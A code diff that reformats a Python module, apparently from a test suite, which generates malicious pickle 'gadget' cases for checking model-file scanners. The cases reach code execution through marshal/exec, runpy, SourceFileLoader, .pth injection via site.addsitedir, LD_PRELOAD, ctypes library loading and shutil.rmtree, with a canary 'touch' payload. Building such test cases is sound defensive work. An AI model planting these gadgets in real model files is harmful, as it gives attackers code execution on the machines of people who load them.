@@ -8,7 +8,22 @@ from __future__ import annotations
 import marshal
 from collections.abc import Iterator
 
-from attacks.case import CANARY, EXPRESSION, SHELL, STATEMENT, Case, Raw, call, called, glob, one, push, stack_glob, stream, system
+from attacks.case import (
+    CANARY,
+    EXPRESSION,
+    SHELL,
+    STATEMENT,
+    Case,
+    Raw,
+    call,
+    called,
+    glob,
+    one,
+    push,
+    stack_glob,
+    stream,
+    system,
+)
 
 KIND = "gadget"
 ARGV = ["touch", CANARY]
@@ -141,7 +156,15 @@ LOADS: tuple[tuple[str, str, str, tuple[object, ...]], ...] = (
 )  # fmt: skip
 
 
-NOT_HERE = {"py-compile", "xmlrpc", "doctest-debug-script", "torch-bottleneck", "hydra-instantiate", "joblib-cloudpickle-loads", "pandas-eval"}
+NOT_HERE = {
+    "py-compile",
+    "xmlrpc",
+    "doctest-debug-script",
+    "torch-bottleneck",
+    "hydra-instantiate",
+    "joblib-cloudpickle-loads",
+    "pandas-eval",
+}
 """Gadgets that fire in other releases of their library, or only where something else is at hand."""
 
 
@@ -165,19 +188,82 @@ def code_objects() -> Iterator[Case]:
     loaded = call("marshal", "loads", marshal.dumps(CODE))
     yield one(KIND, "marshal-function", stream(called(call("types", "FunctionType", loaded, {}))))
     yield one(KIND, "marshal-exec", stream(call("builtins", "exec", loaded)))
-    yield one(KIND, "compile-exec", stream(call("builtins", "exec", call("builtins", "compile", STATEMENT, "m", "exec"))))
-    yield one(KIND, "dill-create-function", stream(called(call("dill._dill", "_create_function", loaded, {}, "f", None, None))))
-    yield one(KIND, "cloudpickle-make-function", stream(called(call("cloudpickle.cloudpickle", "_make_function", loaded, {"__builtins__": {}, "open": glob("builtins", "open")}, "f", None, None))))
-    yield one(KIND, "type-made", stream(call("builtins", "type", "T", (), {"__del__": glob("builtins", "print")})), loader="none")
+    yield one(
+        KIND, "compile-exec", stream(call("builtins", "exec", call("builtins", "compile", STATEMENT, "m", "exec")))
+    )
+    yield one(
+        KIND,
+        "dill-create-function",
+        stream(called(call("dill._dill", "_create_function", loaded, {}, "f", None, None))),
+    )
+    yield one(
+        KIND,
+        "cloudpickle-make-function",
+        stream(
+            called(
+                call(
+                    "cloudpickle.cloudpickle",
+                    "_make_function",
+                    loaded,
+                    {"__builtins__": {}, "open": glob("builtins", "open")},
+                    "f",
+                    None,
+                    None,
+                )
+            )
+        ),
+    )
+    yield one(
+        KIND,
+        "type-made",
+        stream(call("builtins", "type", "T", (), {"__del__": glob("builtins", "print")})),
+        loader="none",
+    )
 
 
 def imports() -> Iterator[Case]:
     """Importing executes: a name that is only looked up, in a module that lies beside the model."""
     module = STATEMENT.encode() + b"\nWeights = dict\n"
-    yield Case(id=f"{KIND}/import-beside-model", kind=KIND, files={"model.pkl": stream(glob("modeling_weights", "Weights"), 2), "modeling_weights.py": module}, loader="pickle", entry="model.pkl")
-    yield Case(id=f"{KIND}/runpy-run-path", kind=KIND, files={"model.pkl": stream(call("runpy", "run_path", "readme.txt")), "readme.txt": module}, loader="pickle", entry="model.pkl")
-    yield Case(id=f"{KIND}/source-file-loader", kind=KIND, files={"model.pkl": stream(call("importlib.machinery", "SourceFileLoader.load_module", call("importlib.machinery", "SourceFileLoader", "readme", "readme.txt"))), "readme.txt": module}, loader="pickle", entry="model.pkl")
-    yield Case(id=f"{KIND}/site-addsitedir", kind=KIND, files={"model.pkl": stream(call("site", "addsitedir", ".")), "weights.pth": b"import os; " + STATEMENT.encode() + b"\n"}, loader="pickle", entry="model.pkl")
+    yield Case(
+        id=f"{KIND}/import-beside-model",
+        kind=KIND,
+        files={"model.pkl": stream(glob("modeling_weights", "Weights"), 2), "modeling_weights.py": module},
+        loader="pickle",
+        entry="model.pkl",
+    )
+    yield Case(
+        id=f"{KIND}/runpy-run-path",
+        kind=KIND,
+        files={"model.pkl": stream(call("runpy", "run_path", "readme.txt")), "readme.txt": module},
+        loader="pickle",
+        entry="model.pkl",
+    )
+    yield Case(
+        id=f"{KIND}/source-file-loader",
+        kind=KIND,
+        files={
+            "model.pkl": stream(
+                call(
+                    "importlib.machinery",
+                    "SourceFileLoader.load_module",
+                    call("importlib.machinery", "SourceFileLoader", "readme", "readme.txt"),
+                )
+            ),
+            "readme.txt": module,
+        },
+        loader="pickle",
+        entry="model.pkl",
+    )
+    yield Case(
+        id=f"{KIND}/site-addsitedir",
+        kind=KIND,
+        files={
+            "model.pkl": stream(call("site", "addsitedir", ".")),
+            "weights.pth": b"import os; " + STATEMENT.encode() + b"\n",
+        },
+        loader="pickle",
+        entry="model.pkl",
+    )
     yield one(KIND, "import-only-antigravity", stream(glob("antigravity", "fly"), 2), loader="none")
     yield one(KIND, "import-only-idlelib", stream(glob("idlelib.run", "Executive"), 2), loader="none")
     yield one(KIND, "idlelib-runcode", stream(call("idlelib.run", "Executive.runcode", None, STATEMENT)), loader="none")
@@ -192,9 +278,16 @@ def hidden_tools() -> Iterator[Case]:
     yield one(KIND, "os-putenv", stream(call("os", "putenv", "LD_PRELOAD", "weights.so")), loader="none")
     yield one(KIND, "linecache-read", stream(call("linecache", "getlines", "/etc/hosts")), loader="none")
     yield one(KIND, "sys-path-insert", stream(called(stack_glob("sys", "path.insert"), 0, ".")), loader="none")
-    yield one(KIND, "torch-load-library", stream(called(stack_glob("torch", "ops.load_library"), "weights.so")), loader="none")
+    yield one(
+        KIND, "torch-load-library", stream(called(stack_glob("torch", "ops.load_library"), "weights.so")), loader="none"
+    )
     yield one(KIND, "ctypes-cdll", stream(call("ctypes", "CDLL", "weights.so")), loader="none")
     yield one(KIND, "setrecursionlimit", stream(call("sys", "setrecursionlimit", 100_000_000)), loader="none")
     yield one(KIND, "gc-objects", stream(call("gc", "get_objects")), loader="none")
     yield one(KIND, "shutil-rmtree", stream(call("shutil", "rmtree", CANARY + "-gone", True)), loader="none")
-    yield one(KIND, "state-of-file", stream(Raw(glob("collections", "OrderedDict") + b")R" + push({"x": call("os", "getenv", "HOME")}) + b"b")), loader="none")
+    yield one(
+        KIND,
+        "state-of-file",
+        stream(Raw(glob("collections", "OrderedDict") + b")R" + push({"x": call("os", "getenv", "HOME")}) + b"b")),
+        loader="none",
+    )
